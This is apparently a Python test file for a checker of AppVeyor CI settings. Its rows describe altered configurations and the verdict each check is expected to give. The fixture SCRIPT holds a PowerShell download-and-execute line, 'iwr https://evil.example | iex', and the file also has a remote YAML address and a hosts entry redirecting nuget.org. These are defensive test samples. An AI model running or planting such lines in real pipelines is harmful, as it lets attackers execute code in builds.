# SPDX-License-Identifier: Apache-2.0
"""Attacks on what is set on AppVeyor's pages, and on the committed file."""

from row import BEHIND_GATE, Row, fails, lost, unknown
from world import DAY, MINUTE, OTHER_JOB, stamp

SCRIPT = [{"language": "ps", "script": "iwr https://evil.example | iex"}]


def configuration(**members):
    """Sets members of the configuration."""
    return lambda w: w.configuration.update(members)


def without(*names):
    def change(w):
        for name in names:
            del w.configuration[name]
    return change


def of_settings(**members):
    return lambda w: w.settings.update(members)


def of_project(**members):
    return lambda w: w.project.update(members)


def builds(commit):
    return lambda w: w.builds(commit)


def rerun_after_change(w):
    """The failed job was run again after the settings were changed; the first job had ended."""
    w.arguments += ["--job", OTHER_JOB]
    other = w.second_job()
    w.scenario["jobs"][OTHER_JOB] = w.scenario["jobs"][w.job["jobId"]]
    for key, minutes in (("created", 20), ("started", 19), ("finished", 10), ("updated", 10)):
        other[key] = stamp(minutes * MINUTE)
    w.listed[0]["created"] = stamp(11 * MINUTE)
    w.settings["updated"] = stamp(30 * MINUTE)


def variable(name, value="x"):
    return {"name": name, "value": {"isEncrypted": False, "value": value}}


OF_SCRIPTS = ["hotFixScripts", "initScripts", "installScripts", "beforeBuildScripts",
              "buildScripts", "beforePackageScripts", "afterBuildScripts", "beforeTestScripts",
              "testScripts", "afterTestScripts", "beforeDeployScripts", "deployScripts",
              "afterDeployScripts", "onBuildSuccessScripts", "onBuildErrorScripts",
              "onBuildFinishScripts"]

ROWS = [
    # ---- scripts
    *(Row(f"script in {name}", configuration(**{name: SCRIPT}), fails("scripts-off"))
      for name in OF_SCRIPTS),
    Row("one script under a new name", configuration(newThingScript="evil"),
        unknown("scripts-off")),
    Row("clone script", configuration(cloneScripts=SCRIPT),
        fails("scripts-off", "sources-unpatched")),
    Row("unknown non-empty newThingScripts", configuration(newThingScripts=SCRIPT),
        fails("scripts-off")),
    Row("scripts as a text", configuration(installScripts="iwr https://evil.example | iex"),
        unknown("scripts-off")),
    Row("scripts as an object", configuration(installScripts={"0": "a"}), fails("scripts-off")),
    Row("scripts in another case, beside the empty ones", configuration(InstallScripts=SCRIPT),
        lost("settings", *BEHIND_GATE)),
    Row("scripts in another case",
        lambda w: (w.configuration.pop("installScripts"),
                   w.configuration.update(INSTALLSCRIPTS=SCRIPT)), fails("scripts-off")),
    Row("cache entries in another case",
        lambda w: (w.configuration.pop("cacheEntries"),
                   w.configuration.update(CacheEntries=[{"value": "a"}])), fails("cache-empty")),
    Row("hosts entries in another case",
        lambda w: (w.configuration.pop("hostsEntries"),
                   w.configuration.update(HostsEntries=[{"host": "a"}])),
        fails("sources-unpatched")),
    Row("build mode script", configuration(buildMode="script"), fails("scripts-off")),
    Row("build mode msbuild", configuration(buildMode="msbuild"), fails("scripts-off")),
    Row("test mode auto", configuration(testMode="auto"), fails("scripts-off")),
    Row("deploy mode providers", configuration(deployMode="providers"), fails("scripts-off")),
    Row("a mode of the future", configuration(packageMode="script"), unknown("scripts-off")),
    Row("no build mode stated", without("buildMode"), unknown("scripts-off")),
    Row("no deploy mode stated", without("deployMode"), unknown("scripts-off")),
    Row("build mode as a list", configuration(buildMode=[]), unknown("scripts-off")),

    # ---- cache
    Row("cache entry in the settings", configuration(cacheEntries=[{"value": "packages"}]),
        fails("cache-empty")),
    Row("cache entries as a text", configuration(cacheEntries="packages"), unknown("cache-empty")),
    *(Row(f"committed file: {commit}", builds(commit), fails("cache-empty"))
      for commit in ("cache", "cache-in-dot", "cache-in-for", "cache-in-list", "cache-in-quotes",
                     "cache-escaped", "cache-upper-case", "cache-after-another",
                     "cache-in-flow")),
    *(Row(f"committed file: {commit}", builds(commit), unknown("cache-empty"))
      for commit in ("cache-by-alias", "two-documents", "broken")),
    *(Row(f"committed file: {commit}", builds(commit), unknown("cache-empty", "config-in-root"),
          says=says)
      for commit, says in (("not-utf8", "not text in UTF-8"), ("huge", "bytes, more than"))),

    # ---- the file itself
    Row("no committed file", builds("no-file"), fails("config-in-root")),
    Row("file in another case", builds("wrong-case"), fails("config-in-root")),
    Row("file in a folder", builds("in-folder"), fails("config-in-root")),
    Row("folder of that name", builds("folder-of-that-name"),
        unknown("config-in-root", "cache-empty"), says="is not a file"),
    Row("symbolic link of that name", builds("link"), unknown("config-in-root", "cache-empty"),
        says="is a symbolic link"),
    Row("NUL in the file", builds("nul"), unknown("config-in-root", "cache-empty")),
    Row("both files", builds("both"), fails("config-in-root")),
    Row("custom name of the file", of_settings(customYmlName="ci/other.yml"),
        fails("config-in-root")),
    Row("custom name is an address", of_settings(customYmlName="https://evil.example/a.yml"),
        fails("config-in-root")),
    Row("the file is ignored", of_settings(ignoreAppveyorYml=True), fails("config-in-root")),
    Row("ignoring is not stated", lambda w: w.settings.pop("ignoreAppveyorYml"),
        unknown("config-in-root")),

    # ---- when they were changed
    Row("settings changed after the build", of_settings(updated=stamp(5 * MINUTE)),
        fails("settings-unmodified")),
    Row("project changed after the build", of_project(updated=stamp(5 * MINUTE)),
        fails("settings-unmodified")),
    Row("settings changed when the build was created",
        lambda w: w.settings.update(updated=w.build["created"]), fails("settings-unmodified")),
    Row("settings changed between build and job", of_settings(updated=stamp(59 * MINUTE)),
        fails("settings-unmodified")),
    Row("settings changed before a job was run again", rerun_after_change,
        fails("settings-unmodified")),
    Row("time of the settings is no time", of_settings(updated="yesterday"),
        unknown("settings-unmodified")),
    Row("time of the settings without a zone", of_settings(updated="2020-01-01T00:00:00"),
        unknown("settings-unmodified")),
    Row("settings without any time",
        lambda w: [part.pop(key) for part in (w.settings, w.project)
                   for key in ("updated", "created")], unknown("settings-unmodified")),
    Row("settings changed during the download",
        lambda w: (w.edit("settings", "settings.updated", stamp(0), [2, None]),
                   w.edit("settings", "settings.configuration.installScripts", SCRIPT, [2, None])),
        fails("stable")),
    Row("a script, and back, between two readings, leaves a newer time",
        lambda w: w.edit("settings", "settings.updated", stamp(0), [2, None]), fails("stable")),

    # ---- patching
    Row("AssemblyInfo patched", configuration(patchAssemblyInfo=True), fails("sources-unpatched")),
    Row("project files patched", configuration(patchDotnetCsproj=True),
        fails("sources-unpatched")),
    Row("hosts entry", configuration(hostsEntries=[{"host": "nuget.org", "ip": "10.0.0.1"}]),
        fails("sources-unpatched")),
    Row("shallow clone", configuration(shallowClone=True), fails("sources-unpatched")),
    Row("patching is not stated", without("patchAssemblyInfo"), unknown("sources-unpatched")),
    Row("patching as a text", configuration(patchAssemblyInfo="true"),
        unknown("sources-unpatched")),

    # ---- what the policy has to name
    Row("undeclared variable", configuration(environmentVariables=[variable("PATH")]),
        fails("environment-declared")),
    Row("undeclared variable of the matrix",
        configuration(environmentVariablesMatrix=[{"variables": [variable("A")]}]),
        fails("environment-declared")),
    Row("variable without a name",
        configuration(environmentVariables=[{"value": {"isEncrypted": False, "value": "a"}}]),
        fails("environment-declared")),
    Row("undeclared image", configuration(operatingSystem=[{"value": "My own image"}]),
        fails("worker-declared")),
    Row("undeclared build cloud", configuration(buildCloud=[{"value": "under my desk"}]),
        fails("worker-declared")),
    Row("undeclared feed of the project", configuration(configureNuGetProjectSource=True),
        fails("package-sources-declared")),
    Row("undeclared feed of the account", configuration(configureNuGetAccountSource=True),
        fails("package-sources-declared")),
    Row("feeds are not stated", without("configureNuGetAccountSource"),
        unknown("package-sources-declared")),

    # ---- no settings at all
    Row("settings without a configuration", lambda w: w.settings.pop("configuration"),
        unknown("scripts-off", "cache-empty", "sources-unpatched", "environment-declared",
                "worker-declared", "package-sources-declared")),
    Row("an empty object for settings", lambda w: w.override("settings", raw="{}"),
        unknown("project-linked", "scripts-off", "settings-unmodified", "sources-unpatched",
                "environment-declared", "worker-declared", "package-sources-declared")
        | lost(*BEHIND_GATE)),
    Row("a mark of withholding in the answer",
        configuration(installScripts={"withheld": "array", "empty": True, "count": 0}),
        lost("settings", *BEHIND_GATE)),
    Row("settings older than the project itself", of_settings(updated=stamp(900 * DAY))),
]
